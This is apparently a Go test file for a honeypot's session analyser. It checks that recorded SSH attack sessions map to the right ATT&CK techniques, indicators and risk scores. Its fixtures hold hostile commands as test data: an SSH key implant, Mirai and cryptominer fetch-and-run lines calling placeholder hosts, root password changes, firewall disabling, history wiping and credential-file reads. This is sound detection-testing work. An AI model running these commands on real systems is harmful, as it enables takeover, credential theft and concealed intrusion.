package analyst

import (
	"context"
	"encoding/json"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/lure-sensor/lure/internal/event"
	"github.com/lure-sensor/lure/internal/store"
)

// The SSH key the "mdrfckr" family appends (a throwaway key from testdata/corpus/attacker.txt).
const mdrfckrKey = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDD7ulnlxn5YUnB1bePWy59fvW38wK+PtIsD9YS/SPrswcKUdi0rQ3IUDZeT/hagPmSJZcfxhDAip5BImqCfIY+400yUtIOeOII0FcB5GhN5cVjpcSm6aw7/jMUtQ3dHKZQKWoMTirhGapMBFsm7SQcl/TpVfdVJkQxnpoELlsNLuH+aw2xwzLbDebtGytdg2anUacf5YyscBiuP5CfZ9EBz0uY7SArn9DGF86XobzpLL5gyWahccWpcZxHK/tYH45kSsg+OhLyMI94T7OjWuTjYQz2j1MiSw2D7kzikdixWJSWnPmC4aqojXuE+aW0CPQobQ3TC575lcCGxPihTm8P mdrfckr"

// session builds the events of one recorded SSH session: connect, client version, failed
// logins, a successful one, the command lines, extra events, close.
type session struct {
	id, ip     string
	client     string
	failures   int
	user, pass string
	cmds       []string
	extra      []event.Event // appended after the commands, before the close
}

func (s session) events() []event.Event {
	t0 := time.Date(2026, 11, 26, 4, 0, 0, 0, time.UTC)
	n := 0
	mk := func(id string, f map[string]any) event.Event {
		n++
		return event.Event{EventID: id, Time: t0.Add(time.Duration(n) * time.Second), Session: s.id, SrcIP: s.ip, SrcPort: 40000,
			DstIP: "192.0.2.1", DstPort: 22, Sensor: "s1", Protocol: "ssh", Fields: f}
	}
	evs := []event.Event{mk(event.SessionConnect, nil), mk(event.ClientVersion, map[string]any{"version": s.client})}
	for i := 0; i < s.failures; i++ {
		evs = append(evs, mk(event.LoginFailed, map[string]any{"username": s.user, "password": "wrong"}))
	}
	if s.user != "" {
		evs = append(evs, mk(event.LoginSuccess, map[string]any{"username": s.user, "password": s.pass}))
	}
	for _, c := range s.cmds {
		evs = append(evs, mk(event.CommandInput, map[string]any{"input": c}))
	}
	for _, e := range s.extra {
		x := mk(e.EventID, e.Fields)
		evs = append(evs, x)
	}
	return append(evs, mk(event.SessionClosed, map[string]any{"duration": float64(n)}))
}

var mdrfckrSession = session{
	id: "a0000000mdrf", ip: "203.0.113.50", client: "SSH-2.0-libssh2_1.4.3", failures: 2, user: "root", pass: "admin",
	cmds: []string{
		"cd ~; chattr -ia .ssh; lockr -ia .ssh",
		`cd ~ && rm -rf .ssh && mkdir .ssh && echo "` + mdrfckrKey + `">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~`,
		"cat /proc/cpuinfo | grep name | wc -l",
		`echo "root:Xk9mQ2vLp4sT"|chpasswd|bash`,
		"free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
		"ls -lh $(which ls)",
		"crontab -l",
		"w",
		"uname -m",
		"top",
		"whoami",
		"lscpu | grep Model",
		"rm -rf /tmp/secure.sh; rm -rf /tmp/auth.sh; pkill -9 secure.sh; pkill -9 auth.sh; echo > /etc/hosts.deny; pkill -9 sleep;",
		"cat /etc/hosts.deny | wc -c",
	},
}

var miraiSession = session{
	id: "a000000mirai", ip: "198.51.100.77", client: "SSH-2.0-Go", user: "admin", pass: "admin",
	cmds: []string{
		"enable", "system", "shell", "sh",
		"/bin/busybox ECCHI",
		"cat /proc/mounts; /bin/busybox ECCHI",
		">/tmp/.file && cd /tmp/ ; >/var/tmp/.file && cd /var/tmp/",
		"dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s",
		"cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://192.0.2.15/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp 192.0.2.15 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; rm -rf bins.sh tftp1.sh",
		"cd /tmp; /bin/busybox wget http://198.51.100.23/arm7 -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; ./dvrHelper selfrep",
	},
	extra: []event.Event{
		{EventID: event.FileDownloadFailed, Fields: map[string]any{"url": "http://192.0.2.15/bins.sh", "outfile": "bins.sh"}},
	},
}

const minerHash = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"

var minerSession = session{
	id: "a000000miner", ip: "203.0.113.99", client: "SSH-2.0-OpenSSH_7.4", failures: 1, user: "root", pass: "123456",
	cmds: []string{
		"uname -a; nproc --all",
		"pkill -f xmrig; pkill -9 -f kinsing; rm -rf /tmp/kdevtmpfsi",
		"curl -s http://192.0.2.44/install.sh | bash",
		"mkdir -p /tmp/.x && wget -q http://dl.example.com/xmrig -O /tmp/.x/xmrig && chmod +x /tmp/.x/xmrig",
		"nohup /tmp/.x/xmrig -o stratum+tcp://pool.example.com:3333 -u 44AFFq5kSiGBoZ --donate-level 1 -B >/dev/null 2>&1 &",
		`(crontab -l 2>/dev/null; echo "*/5 * * * * /tmp/.x/xmrig -B") | crontab -`,
		"iptables -F; ufw disable",
		"history -c; rm -rf ~/.bash_history",
	},
	extra: []event.Event{
		{EventID: event.FileDownload, Fields: map[string]any{"url": "http://dl.example.com/xmrig", "shasum": minerHash, "outfile": "/tmp/.x/xmrig"}},
	},
}

var reconSession = session{
	id: "a000000recon", ip: "192.0.2.200", client: "SSH-2.0-PUTTY", user: "root", pass: "root",
	cmds: []string{"uname -a", "whoami", "cat /proc/cpuinfo | grep name | wc -l", "free -m", "ls -la", "cat /etc/passwd", "wget --version | head -1", "crontab -l", "exit"},
}

func analyse(s session) Analysis { return Rules(FromEvents(s.events())) }

func techIDs(a Analysis) []string {
	out := make([]string, len(a.Techniques))
	for i, x := range a.Techniques {
		out[i] = x.ID
	}
	return out
}

func mustHave(t *testing.T, what string, got []string, want ...string) {
	t.Helper()
	for _, w := range want {
		if !slices.Contains(got, w) {
			t.Errorf("%s: missing %s in %v", what, w, got)
		}
	}
}

func mustLack(t *testing.T, what string, got []string, bad ...string) {
	t.Helper()
	for _, b := range bad {
		if slices.Contains(got, b) {
			t.Errorf("%s: %s should not be in %v", what, b, got)
		}
	}
}

func TestRulesMdrfckr(t *testing.T) {
	a := analyse(mdrfckrSession)
	mustHave(t, "intents", a.Intents, Reconnaissance, CredentialChange, Persistence, DefenceEvasion)
	mustLack(t, "intents", a.Intents, Cryptomining, DownloadExecute, LateralMovement)
	mustHave(t, "techniques", techIDs(a), "T1098.004", "T1098", "T1531", "T1082", "T1222.002", "T1562.004", "T1110.001", "T1078.003", "T1033", "T1057")
	// "cat /etc/hosts.deny" is not remote-system discovery, "crontab -l" is not persistence.
	mustLack(t, "techniques", techIDs(a), "T1018", "T1053.003", "T1105")
	if len(a.IOCs.SSHKeys) != 1 || a.IOCs.SSHKeys[0].Comment != "mdrfckr" || a.IOCs.SSHKeys[0].Type != "ssh-rsa" ||
		!strings.HasPrefix(a.IOCs.SSHKeys[0].Fingerprint, "SHA256:") {
		t.Errorf("ssh key IOC: %+v", a.IOCs.SSHKeys)
	}
	if !strings.Contains(a.Summary, "mdrfckr") || !strings.Contains(a.Summary, "203.0.113.50 logged in as root") || !strings.Contains(a.Summary, "locking out") {
		t.Errorf("summary: %s", a.Summary)
	}
	if a.Risk < 70 {
		t.Errorf("risk %d for a key implant with a password change", a.Risk)
	}
}

func TestRulesMirai(t *testing.T) {
	a := analyse(miraiSession)
	mustHave(t, "intents", a.Intents, Reconnaissance, DownloadExecute, Propagation)
	mustLack(t, "intents", a.Intents, CredentialChange, Cryptomining, Persistence)
	mustHave(t, "techniques", techIDs(a), "T1059.004", "T1082", "T1105", "T1046", "T1083")
	mustHave(t, "urls", a.IOCs.URLs, "http://192.0.2.15/bins.sh", "http://198.51.100.23/arm7")
	mustHave(t, "ips", a.IOCs.IPs, "192.0.2.15", "198.51.100.23")
	mustLack(t, "ips", a.IOCs.IPs, "192.0.2.1") // the sensor itself
	mustLack(t, "domains", a.IOCs.Domains, "bins.sh", "tftp1.sh")
	if !strings.Contains(a.Summary, "BusyBox") {
		t.Errorf("summary does not name the busybox probe: %s", a.Summary)
	}
}

func TestRulesMinerDropper(t *testing.T) {
	a := analyse(minerSession)
	mustHave(t, "intents", a.Intents, Cryptomining, DownloadExecute, Persistence, DefenceEvasion, Reconnaissance)
	mustHave(t, "techniques", techIDs(a), "T1496.001", "T1105", "T1059.004", "T1053.003", "T1070.003", "T1562.004")
	mustHave(t, "urls", a.IOCs.URLs, "http://192.0.2.44/install.sh", "http://dl.example.com/xmrig", "stratum+tcp://pool.example.com:3333")
	mustHave(t, "domains", a.IOCs.Domains, "dl.example.com", "pool.example.com")
	mustHave(t, "hashes", a.IOCs.Hashes, minerHash)
	if a.Risk < 90 {
		t.Errorf("risk %d for a miner dropper with persistence", a.Risk)
	}
}

func TestRulesReconOnly(t *testing.T) {
	a := analyse(reconSession)
	if !slices.Equal(a.Intents, []string{Reconnaissance}) {
		t.Errorf("intents %v, want only reconnaissance", a.Intents)
	}
	// cat /etc/passwd is account discovery, not a password change; wget --version downloads nothing.
	mustHave(t, "techniques", techIDs(a), "T1082", "T1033", "T1083", "T1087.001")
	mustLack(t, "techniques", techIDs(a), "T1098", "T1105", "T1053.003", "T1531")
	if a.IOCs.count() != 0 {
		t.Errorf("recon session names no indicators: %+v", a.IOCs)
	}
	for _, other := range []session{mdrfckrSession, miraiSession, minerSession} {
		if o := analyse(other); o.Risk <= a.Risk+30 {
			t.Errorf("risk of %s (%d) should be well above plain recon (%d)", other.id, o.Risk, a.Risk)
		}
	}
	if a.Risk < 10 || a.Risk > 40 {
		t.Errorf("recon risk %d, want 10-40", a.Risk)
	}
}

func TestRulesNoLogin(t *testing.T) {
	a := analyse(session{id: "a0000000brut", ip: "192.0.2.9", failures: 6})
	if a.Risk > 10 || len(a.Intents) != 0 || !strings.Contains(a.Summary, "tried 6 password(s) and never logged in") {
		t.Errorf("brute force only: risk %d intents %v summary %q", a.Risk, a.Intents, a.Summary)
	}
	mustHave(t, "techniques", techIDs(a), "T1110.001")
}

// TestRuleLines checks single lines against the techniques they must and must not raise.
func TestRuleLines(t *testing.T) {
	cases := []struct {
		line      string
		want, not []string
	}{
		{"echo \"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ5UYeZ8WnJJa6IFaDgvdPHf0A2++xYS8s9fIENx2W/L admin@example.com\" >> ~/.ssh/authorized_keys", []string{"T1098.004"}, nil},
		{"cat ~/.ssh/authorized_keys | cut -d' ' -f1,3", nil, []string{"T1098.004"}},
		{"echo \"@reboot root /tmp/.x/run >/dev/null 2>&1\" >> /etc/crontab", []string{"T1053.003"}, nil},
		{"crontab -l; crontab -r", nil, []string{"T1053.003"}},
		{"useradd -m -s /bin/bash sysadm", []string{"T1136.001"}, nil},
		{"echo \"sysadm ALL=(ALL) NOPASSWD:ALL\" >> /etc/sudoers", []string{"T1548.003"}, nil},
		{"echo '/tmp/.x/run &' >> /etc/rc.local; chmod +x /etc/rc.local", []string{"T1037.004"}, nil},
		{"cat /etc/rc.local", nil, []string{"T1037.004"}},
		{"export HISTFILE=/dev/null", []string{"T1070.003"}, nil},
		{"unset HISTFILE; history -c", []string{"T1070.003"}, nil},
		{"cat /dev/null > ~/.bash_history", []string{"T1070.003"}, nil},
		{"ls -la ~/.bash_history", []string{"T1083"}, []string{"T1070.003"}},
		{"echo \"d2dldA==\" | base64 -d | bash", []string{"T1140", "T1059.004"}, nil},
		{"setenforce 0", []string{"T1562.001"}, nil},
		{"service apparmor stop", []string{"T1562.001"}, nil},
		{"systemctl stop firewalld", []string{"T1562.004"}, nil},
		{"echo -e \"Pa55w0rd2024\\nPa55w0rd2024\" | passwd", []string{"T1098", "T1531"}, nil},
		{"grep sysadm /etc/passwd", []string{"T1087.001"}, []string{"T1098"}},
		{"cat /etc/shadow", []string{"T1003.008"}, nil},
		{"ssh -p 2222 root@10.0.0.5", []string{"T1021.004"}, nil},
		{"cat ~/.ssh/id_rsa", []string{"T1552.004"}, nil},
		{"cat ~/.ssh/known_hosts", []string{"T1018"}, nil},
		{"masscan 10.0.0.0/8 -p22 --rate 10000", []string{"T1046"}, nil},
		{"curl -s -m 5 http://ip.example.com", []string{"T1016.001"}, []string{"T1105"}},
		{"curl --version | head -1", nil, []string{"T1105"}},
		{"/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI", []string{"T1059.004", "T1082"}, []string{"T1105"}},
		{"python3 -c \"import urllib.request;urllib.request.urlretrieve('http://192.0.2.44/x','/tmp/x')\"", []string{"T1105", "T1059.006"}, nil},
		{"ps aux | grep -i xmrig | grep -v grep", []string{"T1057", "T1496.001"}, nil},
		{"chattr -i /etc/ld.so.preload; rm -f /etc/ld.so.preload", []string{"T1222.002"}, []string{"T1574.006"}},
		{"echo /usr/local/lib/libx.so > /etc/ld.so.preload", []string{"T1574.006"}, nil},
		{"iptables -L", nil, []string{"T1562.004"}},
		{"systemd-detect-virt", []string{"T1497.001"}, nil},
	}
	for _, c := range cases {
		a := analyse(session{id: "a00000000one", ip: "192.0.2.3", user: "root", pass: "x", cmds: []string{c.line}})
		ids := techIDs(a)
		for _, w := range c.want {
			if !slices.Contains(ids, w) {
				t.Errorf("%q: missing %s (%v)", c.line, w, ids)
			}
		}
		for _, n := range c.not {
			if slices.Contains(ids, n) {
				t.Errorf("%q: %s should not fire (%v)", c.line, n, ids)
			}
		}
		for _, id := range ids {
			if !ValidTechniqueID(id) || TechniqueName(id) == "" {
				t.Errorf("%q: technique %q is malformed or has no name", c.line, id)
			}
		}
	}
}

func TestTranscriptBounds(t *testing.T) {
	s := session{id: "a000000bound", ip: "192.0.2.4", user: "root", pass: "x"}
	for i := 0; i < MaxCommands+50; i++ {
		s.cmds = append(s.cmds, "echo "+strings.Repeat("a", 100))
	}
	tr := FromEvents(s.events())
	if len(tr.Commands) != MaxCommands || !tr.Truncated {
		t.Errorf("kept %d commands (truncated=%v), want %d", len(tr.Commands), tr.Truncated, MaxCommands)
	}
	big := session{id: "a00000000big", ip: "192.0.2.4", user: "root", pass: "x", cmds: []string{strings.Repeat("b", MaxInputBytes)}}
	tr = FromEvents(big.events())
	if tr.inputBytes > MaxInputBytes {
		t.Errorf("kept %d bytes of input", tr.inputBytes)
	}
}

// blockingLLM answers only when released, so a test can hold the worker busy.
type blockingLLM struct {
	release chan struct{}
	calls   chan string
}

func (b *blockingLLM) Complete(ctx context.Context, system, user string) (string, error) {
	b.calls <- user
	select {
	case <-b.release:
		return `{"summary":"ok","risk":50}`, nil
	case <-ctx.Done():
		return "", ctx.Err()
	}
}

func TestQueueBound(t *testing.T) {
	llm := &blockingLLM{release: make(chan struct{}), calls: make(chan string, 10)}
	var mu sync.Mutex
	var done []Analysis
	a := New(Options{Queue: 1, LLM: llm, Timeout: time.Minute, OnDone: func(x Analysis) { mu.Lock(); done = append(done, x); mu.Unlock() }})
	ctx := context.Background()
	write := func(id string) {
		s := reconSession
		s.id = id
		if err := a.Write(ctx, s.events()); err != nil {
			t.Fatal(err)
		}
	}
	write("q00000000001")
	<-llm.calls // the worker holds the first session in the LLM call
	for i := 2; i <= 5; i++ {
		write("q0000000000" + string(rune('0'+i)))
	}
	st := a.Stats()
	if st.Queued != 1 || st.Dropped != 3 {
		t.Fatalf("queue 1 with the worker busy: queued %d dropped %d, want 1 and 3", st.Queued, st.Dropped)
	}
	close(llm.release)
	if err := a.Close(); err != nil {
		t.Fatal(err)
	}
	mu.Lock()
	defer mu.Unlock()
	if len(done) != 2 || a.Stats().Analysed != 2 {
		t.Fatalf("analysed %d sessions, want 2", len(done))
	}
	// Writes after Close are ignored, not queued or panicking.
	write("q00000000009")
}

func TestMaxOpenEvicts(t *testing.T) {
	a := New(Options{MaxOpen: 2})
	defer a.Close()
	for _, id := range []string{"o00000000001", "o00000000002", "o00000000003"} {
		_ = a.Write(context.Background(), []event.Event{{EventID: event.SessionConnect, Session: id, SrcIP: "192.0.2.5"}})
	}
	if st := a.Stats(); st.Open != 2 || st.Evicted != 1 {
		t.Fatalf("open %d evicted %d, want 2 and 1", st.Open, st.Evicted)
	}
}

// capture is an event sink that keeps what it gets.
type capture struct {
	mu  sync.Mutex
	evs []event.Event
}

func (c *capture) Name() string { return "capture" }
func (c *capture) Write(_ context.Context, b []event.Event) error {
	c.mu.Lock()
	c.evs = append(c.evs, b...)
	c.mu.Unlock()
	return nil
}
func (c *capture) Close() error { return nil }

// TestThroughBusAndStore runs sessions through the real bus into the SQLite store and the
// analyst, as lure serve wires them, and reads the analyses back.
func TestThroughBusAndStore(t *testing.T) {
	path := filepath.Join(t.TempDir(), "lure.db")
	db, err := store.OpenSQLite(path)
	if err != nil {
		t.Fatal(err)
	}
	bus := event.NewBus(nil)
	got := make(chan Analysis, 4)
	a := New(Options{Store: db, Events: bus, OnDone: func(x Analysis) { got <- x }})
	cap := &capture{}
	bus.Add(cap, 0)
	bus.Add(a, 0)
	bus.Add(store.Sink{S: db}, 0)
	for _, s := range []session{mdrfckrSession, reconSession} {
		for _, e := range s.events() {
			bus.Emit(e)
		}
	}
	for i := 0; i < 2; i++ {
		select {
		case <-got:
		case <-time.After(10 * time.Second):
			t.Fatal("no analysis within 10s")
		}
	}
	// The emitted analysis event goes round the bus: wait for the capture sink to see both.
	deadline := time.Now().Add(10 * time.Second)
	var analysed []event.Event
	for time.Now().Before(deadline) {
		cap.mu.Lock()
		analysed = analysed[:0]
		for _, e := range cap.evs {
			if e.EventID == EventID {
				analysed = append(analysed, e)
			}
		}
		cap.mu.Unlock()
		if len(analysed) == 2 {
			break
		}
		time.Sleep(10 * time.Millisecond)
	}
	if len(analysed) != 2 {
		t.Fatalf("%d analysis events on the bus, want 2", len(analysed))
	}
	if err := bus.Close(context.Background()); err != nil {
		t.Fatal(err)
	}
	db, err = store.OpenSQLite(path)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	ctx := context.Background()
	sa, ok, err := db.Analysis(ctx, mdrfckrSession.id)
	if err != nil || !ok {
		t.Fatalf("stored analysis: %v %v", ok, err)
	}
	var doc Analysis
	if err := json.Unmarshal(sa.Doc, &doc); err != nil {
		t.Fatal(err)
	}
	if sa.Risk < 70 || doc.Risk != sa.Risk || !slices.Contains(doc.Intents, Persistence) || sa.Source != "rules" {
		t.Errorf("stored: risk %d doc %+v", sa.Risk, doc)
	}
	list, err := db.ListSessions(ctx, store.SessionQuery{})
	if err != nil || len(list) != 2 || !list[0].Analysed || !list[1].Analysed {
		t.Fatalf("sessions with risk: %+v %v", list, err)
	}
}

func TestProbesNotAnalysed(t *testing.T) {
	var got []Analysis
	a := New(Options{OnDone: func(x Analysis) { got = append(got, x) }})
	probe := []event.Event{{EventID: event.SessionConnect, Session: "p00000000001", SrcIP: "192.0.2.8"}, {EventID: event.SessionClosed, Session: "p00000000001", SrcIP: "192.0.2.8"}}
	_ = a.Write(context.Background(), probe)
	_ = a.Write(context.Background(), session{id: "p00000000002", ip: "192.0.2.8", failures: 1}.events())
	a.Close()
	if len(got) != 1 || got[0].Session != "p00000000002" || a.Stats().Skipped != 1 {
		t.Errorf("analysed %d sessions (skipped %d), want only the one that tried to log in", len(got), a.Stats().Skipped)
	}
}

// BenchmarkRules measures the rule-based analysis of a recorded bot session (the mdrfckr
// script: 14 lines), the work the analyst does per closed session without an LLM.
func BenchmarkRules(b *testing.B) {
	tr := FromEvents(mdrfckrSession.events())
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		Rules(tr)
	}
}
